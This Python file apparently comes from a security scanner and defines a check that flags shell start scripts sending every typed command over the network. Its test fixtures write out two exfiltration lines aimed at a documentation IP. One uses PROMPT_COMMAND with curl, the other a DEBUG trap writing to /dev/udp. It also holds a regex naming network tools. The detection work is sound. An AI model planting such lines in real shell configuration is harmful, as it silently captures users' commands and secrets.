"""Start scripts that send every command that is typed elsewhere."""

from collections.abc import Iterator

from hullmark.checks.declare import file_check
from hullmark.checks.lines import joined
from hullmark.checks.samples import BAR, script
from hullmark.checks.start_scripts import SHELL_STARTS
from hullmark.model import Evidence, File, Severity
from hullmark.model.finding import Kind
from hullmark.model.later import regex
from hullmark.model.rule import Confidence

_each_command = regex(r"\bPROMPT_COMMAND\+?=|^(?:precmd|preexec)\s{0,9}\(\)")
_trap = regex(r"\btrap\s")
_debug = regex(r"\bDEBUG\b")
_sends = regex(r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet)\s|/dev/(?:tcp|udp)/")


def _bad() -> tuple[File, ...]:
    return (
        script(
            "root/.bashrc",
            f"PROMPT_COM{BAR}MAND='curl -s -d \"$(history 1)\" http://192.0.2.7/ >/dev/null'",
        ),
        script(
            "etc/profile.d/x.sh", f"trap 'echo $BASH_COMMAND > /dev/{BAR}udp/192.0.2.7/9' DEBUG"
        ),
    )


def _good() -> tuple[File, ...]:
    return (
        script(
            "root/.bashrc",
            "PROMPT_COMMAND='history -a'",
            "trap 'echo $BASH_COMMAND' DEBUG",
            "# PROMPT_COMMAND='curl http://192.0.2.7/'",
        ),
    )


@file_check(
    id="start-script-sends-commands",
    title="A start script sends every command that is typed elsewhere",
    kind=Kind.MALWARE,
    severity=Severity.HIGH,
    confidence=Confidence.LIKELY,
    names=SHELL_STARTS,
    bad=_bad,
    good=_good,
    remediation="Remove the line, and replace every secret that was typed in such a shell.",
    references=(
        "https://attack.mitre.org/techniques/T1546/004/",
        "https://attack.mitre.org/techniques/T1056/",
    ),
)
def start_script_sends_commands(file: File) -> Iterator[Evidence]:
    """The shell runs the line with each command, so somebody reads along, passwords and all."""
    for number, line in joined(file):
        if _runs_each_time(line) and _sends.search(line):
            says = "sends what is typed over the network"
            yield Evidence(at=f"line:{number}", says=says, line=number)


def _runs_each_time(line: str) -> bool:
    """Whether a line has the shell run something with each command."""
    trap = _trap.search(line)
    return bool(_each_command.search(line) or (trap and _debug.search(line, trap.end())))
